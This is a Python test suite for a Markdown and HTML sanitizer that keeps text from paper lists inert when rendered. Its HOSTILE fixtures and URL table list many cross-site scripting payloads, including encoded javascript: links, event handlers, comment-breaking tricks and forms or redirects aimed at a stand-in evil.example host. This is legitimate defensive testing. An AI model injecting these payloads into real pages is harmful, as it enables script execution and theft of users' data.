"""What comes from a list or a service is shown as it is, and runs nothing."""

import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pipeline.escape import inert, is_safe_url, markdown, printable, unfinished

_RUNS = frozenset(
    (
        "applet audio base body button embed form frame frameset head html iframe input link math meta noembed "
        "noframes noscript object plaintext script select style svg template textarea title video xmp"
    ).split()
)
_PLAIN_SCHEMES = ("http", "https", "mailto", "ftp", "tel", "doi", "arxiv", "urn")


class Page(HTMLParser):
    """What a browser makes of a page: its tags, their attributes, its text."""

    def __init__(self, html: str) -> None:
        """Read the page."""
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep a tag."""
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        """Keep text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Keep a comment."""
        self.comments.append(data)

    @property
    def active(self) -> list[str]:
        """What runs, embeds or asks something."""
        found = [tag for tag in self.tags if tag in _RUNS]
        for name, value in self.attributes:
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", unquote(value)).lower())
            if name.startswith("on") or (
                name in {"href", "src", "action"} and scheme and scheme[1] not in _PLAIN_SCHEMES
            ):
                found.append(f"{name}={value}")
        return found


def render(text: str) -> str:
    """Return HTML with every link kept, as a renderer less careful than markdown-it would."""
    parser = MarkdownIt("commonmark", {"html": True, "maxNesting": 100}).enable("table")
    parser.validateLink = lambda url: url is not None  # type: ignore[method-assign]
    return str(parser.render(text))


@pytest.mark.parametrize(
    "text",
    [
        "plain words",
        "*SEM & the *stars*",
        "a_b_c __d__",
        "[link](https://example.org) ![image](x)",
        "<b>bold</b> <script>alert(1)</script> <!-- comment -->",
        "`code` and ``more``",
        "$x^2$ and $$y$$",
        "a | b",
        "~~gone~~ # heading",
        r"back\slash \* \<",
        "&amp; &lt; AT&T &copy;",
        "\"quoted\" and 'single'",
        "https://example.org/_a_ and www.example.org",
        "预训练*模型*：综述（2020）[1]",
        "<!--/+--> <!--+-->",
    ],
)
def test_markdown_shows_text_as_it_is(text: str) -> None:
    """Escaped text, rendered, is the text itself and nothing else."""
    page = Page(render(f"x {markdown(text)}"))
    assert (page.text.strip(), page.tags, page.comments) == (f"x {text}", ["p"], [])


@given(st.text(max_size=60))
@settings(max_examples=200, deadline=None)
def test_markdown_shows_any_text_as_it_is(text: str) -> None:
    """The same for any text, but for white space and characters that steer a terminal."""
    shown = markdown(text)
    page = Page(render(f"x {shown}"))
    assert "\n" not in shown
    assert page.tags == ["p"]
    assert set(re.sub(r"\s", "", page.text)) <= {*re.sub(r"\s", "", text), "x", "\ufffd"}


@given(st.text(alphabet="a|\\`[]* <>\n$", max_size=30))
@settings(max_examples=200, deadline=None)
def test_markdown_stays_in_its_cell_of_a_table(text: str) -> None:
    """A cell cannot end its cell, its row or its table."""
    page = Page(render(f"| h | i |\n| --- | --- |\n| {markdown(text)} | last |\n"))
    assert page.tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert "last" in page.text


@pytest.mark.parametrize("opened", ["`", "``", "$", "<a href='", '<a href="', "![x", "**", "~~", "[x]("])
def test_markdown_does_not_close_what_stands_open_before_it(opened: str) -> None:
    """A title cannot pair with a mark that an entry left open: what follows it stays a link."""
    title = markdown("the `best` of $5 'quoted' \"twice\" **bold** ~~gone~~ (x)")
    html = render(f"{opened} <!--+--><br><sub>{title} · [arXiv](https://arxiv.org/abs/1)</sub><!--/+-->")
    assert "<sub>" in html
    assert '<a href="https://arxiv.org/abs/1">arXiv</a>' in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", r"\x1b[31mred\x1b[0m"),
        ("\x9b2J", r"\x9b2J"),
        ("bell\x07 back\x08 return\r", r"bell\x07 back\x08 return\x0d"),
        ("\u202eright to left", r"\x202eright to left"),
        ("zero\u200bwidth", r"zero\x200bwidth"),
        ("两个\n行", "两个\n行"),
        ("全角\u3000空格 Schütze — “x”", "全角\u3000空格 Schütze — “x”"),
    ],
)
def test_printable_steers_no_terminal(text: str, shown: str) -> None:
    """Control characters are written out, words of any script and newlines stay."""
    assert printable(text) == shown


def test_markdown_drops_what_steers_a_terminal_or_turns_the_writing() -> None:
    """README.md can be shown by `cat`, and a title cannot turn round the words after it."""
    assert markdown("a\x1b[2Jb\u202ec\x00d\x9be") == r"a\[2Jbcde"


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://arxiv.org/abs/1706.03762", True),
        ("http://example.org/a:b", True),
        ("mailto:a@example.org", True),
        ("doi:10.18653/v1/n18-1202", True),
        ("docs/a.md#part", True),
        ("#part", True),
        ("//example.org/x", True),
        ("", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("  javascript:alert(1)", False),
        ("java\nscript:alert(1)", False),
        ("java&#10;script:alert(1)", False),
        ("java&Tab;script:alert(1)", False),
        ("&#106;avascript:alert(1)", False),
        ("&#x6A;avascript&colon;alert(1)", False),
        ("java%0Ascript:alert(1)", False),
        ("\x01javascript:alert(1)", False),
        ("data:text/html;base64,PHNjcmlwdD4=", False),
        ("vbscript:msgbox(1)", False),
        ("file:///etc/passwd", False),
    ],
)
def test_is_safe_url(url: str, safe: bool) -> None:  # noqa: FBT001 a column of the table
    """A link to the web or within the page is safe, whatever runs code is not, in every disguise."""
    assert is_safe_url(url) is safe


@pytest.mark.parametrize(
    "text",
    [
        "1. **Title**. *A. Author*. ACL 2020. [[pdf](https://arxiv.org/pdf/2001.00001.pdf)]\n",
        "Words of BERT: <mask>, <unk> and </s>; 2 < 3 > 1, a <b, x <- y\n",
        "论文：标题</br>地址:https://arxiv.org/abs/2001.00001</br>说明<br/>\n",
        '<p align="center"><img src="a.png" width="50%" alt="图"/></p>\n',
        '<img src="figure.png" alt="" style="zoom:50%;" />\n',
        '<table><tr><td nowrap bgcolor="#fff" data-x=1>x</td></tr></table>\n',
        "<!--\n1. **Hidden**\n-->\ntext <!-- inline --> text\n",
        "<details\n  open>\n<summary>More</summary>\n\n- **Title**\n\n</details>\n",
        "```html\n<script>alert(1)</script>\n```\n",
        "The tag `<script>` and the link `[x](javascript:alert(1))` are code.\n",
        "    <script>indented code</script>\n",
        r"\<script> escaped \[x](javascript:alert(1))" + "\n",
        "<https://example.org> <me@example.org> [a](doi:10.1000/1) [b](#c) ![d](e.png)\n",
        "[ref]: https://example.org 'title'\n",
        "| a | b |\n| --- | --- |\n| <b>x</b> | [y](z) |\n",
        "<font color=red>red</font> <kbd>x</kbd> <a name=top></a> <ruby>字<rt>zi</rt></ruby>\n",
        "a\r\nb <!-- c -->\r\n",
        "no newline at the end",
        "",
    ],
)
def test_inert_leaves_what_is_not_active_byte_for_byte(text: str) -> None:
    """Without active content nothing changes: HTML that only shows, comments and code among it."""
    assert inert(text) == text


HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "text <script>alert(1)</script> text",
    "a\n<script>\nalert(1)\n</script>\nb",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action=https://evil.example><input name=p><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>p { display: none }</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;top:0'>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<x autofocus tabindex=1 onfocus=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    r"[x](javascript\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "[![x](https://example.org/a.png)](javascript:alert(1))",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "[x][a]\n\n[a]:\n  javascript:alert(1)\n  'title'",
    "[a]\n\n> [a]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    r"\`<script>alert(1)</script>\`",
    "```info``` <x\n<script>alert(1)</script>",
    "~~~\n```\n~~~\n<script>alert(1)</script>",
    "- ```\n  code\n<script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<div><p>x<script",
    "<div><p>x<script<img src=x onmouseover=alert(1)>",
    "<div><b<i onclick=alert(1)>",
    "<title>x",
    "<textarea>x",
    "<plaintext>x",
    "> " * 60 + "<script>alert(1)</script>",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_disarms_active_content(text: str) -> None:
    """What runs, embeds or asks something is shown as text; every line keeps its number."""
    made = inert(text)
    assert made != text
    assert Page(render(made)).active == []
    assert "<script" not in render(made)
    assert made.count("\n") == text.count("\n")


def test_the_pieces_are_hostile() -> None:
    """The checker of these tests sees active content in nearly all of them; a browser reads more than Python does."""
    assert sum(bool(Page(render(text)).active) for text in HOSTILE) > len(HOSTILE) - 10


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_is_idempotent(text: str) -> None:
    """What is inert stays as it is."""
    assert inert(inert(text)) == inert(text)


def test_inert_touches_only_the_block_that_is_active() -> None:
    """The other lines of a list with active content stay byte for byte."""
    lines = [
        "1. **A** <b>x</b> `<i>`",
        "",
        "2. **B** <script>alert(1)</script>",
        "",
        "3. [[pdf](https://a.example)] <br>",
    ]
    made = inert("\n".join(lines)).split("\n")
    assert [made[n] == lines[n] for n in range(5)] == [True, True, False, True, True]
    assert made[2] == "2. **B** &lt;script>alert(1)&lt;/script>"


@pytest.mark.parametrize(
    "text",
    ["1. **A** <!-- never closed", "1. **A** <!DOCTYPE", "1. **A** <?php", "<!-- never closed\n\ntext", "<pre>\n\nx"],
)
def test_inert_disarms_what_would_swallow_what_follows(text: str) -> None:
    """A comment, declaration or block that is not closed cannot be closed by an addition, nor hide the page below."""
    html = render(f"{inert(text)}<!--+--><br><sub>added</sub><!--/+-->\n\n## Below\n")
    page = Page(html)
    assert "<br><sub>added</sub>" in html
    assert page.tags[-1] == "h2"
    assert page.comments[:2] == ["+", "/+"]


@pytest.mark.parametrize("line", ["<!-- papers:end ptms -->", "  <!--papers:begin x-->", "<!-- papers:begin a --> "])
def test_inert_disarms_what_looks_like_the_mark_of_a_list(line: str) -> None:
    """A list that holds a marker line cannot end its own block, not from within a code fence either."""
    for text in (line, f"```\n{line}\n```"):
        assert "<!--" not in inert(text)
    assert inert(f"It ends at `{line.strip()}`.") == f"It ends at `{line.strip()}`."


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "\n\n", "- ", "> ", "1. ", "```", "`", "<!--", "-->", "text", "  "]),
        max_size=8,
    )
)
@settings(max_examples=150, deadline=None)
def test_inert_disarms_whatever_active_content_is_combined_with(parts: list[str]) -> None:
    """However hostile pieces are put together, nothing active is left and no line is lost."""
    text = "".join(parts)
    made = inert(text)
    assert Page(render(made)).active == []
    assert made.count("\n") == text.count("\n")


@pytest.mark.parametrize(
    ("text", "end"),
    [
        ("```\ncode", "```\n"),
        ("text\n\n~~~~ x\n```\n", "~~~~\n"),
        ("```\ncode\n```", ""),
        ("```\ncode\n```\ntext", ""),
        ("- ```\n  code in an item ends with it", ""),
        ("<details>\n<summary>x</summary>\n\n<b>y", "</b></details>\n"),
        ("<div><p>x</p></div>", ""),
        ("<p>x", ""),
        ("<br><img src=x></br>", ""),
        ("</div>text", ""),
        ("`<b>` \\<b>", ""),
        ("<!-- <div> -->", ""),
        ("", ""),
    ],
)
def test_unfinished_ends_what_a_text_leaves_open(text: str, end: str) -> None:
    """A fence or tag that is open at the end of a list is ended, so that it does not reach into the rest of a page."""
    assert unfinished(text) == end


def test_the_lists_of_others_have_no_active_content(shared: Path) -> None:
    """Real lists come through byte for byte."""
    paths = sorted((shared / "lists").glob("*.md"))
    assert len(paths) > 5
    for path in paths:
        text = path.read_bytes().decode()
        assert inert(text) == text
